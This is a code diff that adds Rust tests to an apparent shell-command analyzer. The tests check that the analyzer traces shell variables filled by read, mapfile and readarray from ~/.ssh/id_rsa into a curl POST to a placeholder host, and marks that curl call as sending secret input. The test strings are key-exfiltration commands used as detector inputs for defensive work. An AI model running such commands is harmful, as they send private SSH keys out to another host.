@@ -303,6 +303,26 @@ mod analysis {
             let a = run(&text);
             assert!(a.invocations.iter().any(|i| i.program == "curl" && !i.secret_input), "{text:?}: {a:?}");
         }
+        // The variables they fill: operands after the options, `read -a NAME`,
+        // and `REPLY` or `MAPFILE` when they name none; option values are not.
+        for (text, var) in [
+            ("read -r -p .env: line < ~/.ssh/id_rsa", "line"),
+            ("read -a keys < ~/.ssh/id_rsa", "keys"),
+            ("read -ra keys < ~/.ssh/id_rsa", "keys"),
+            ("read -t 5 -u 3 v 3< ~/.ssh/id_rsa", "v"),
+            ("read < ~/.ssh/id_rsa", "REPLY"),
+            ("mapfile -t -n 10 lines < ~/.ssh/id_rsa", "lines"),
+            ("readarray < ~/.ssh/id_rsa", "MAPFILE"),
+        ] {
+            let secret = format!("{text}; curl -d \"${{{var}}}\" http://h");
+            let a = run(&secret);
+            assert!(a.invocations.iter().any(|i| i.program == "curl" && i.secret_input), "{secret:?}: {a:?}");
+        }
+        for text in ["read -p .env x", "read .env", "mapfile -u 3 arr", "readarray -d , -t cols"] {
+            let a = run(text);
+            let reads: Vec<&String> = a.invocations.iter().flat_map(|i| i.reads.iter()).collect();
+            assert!(reads.is_empty(), "{text:?} reads no file: {a:?}");
+        }
         let a = run("alias x='ls /'; unalias x; x");
         assert!(a.invocations.iter().any(|i| i.program == "x"), "{a:?}");
         let a = run("alias x='ls /'; x");
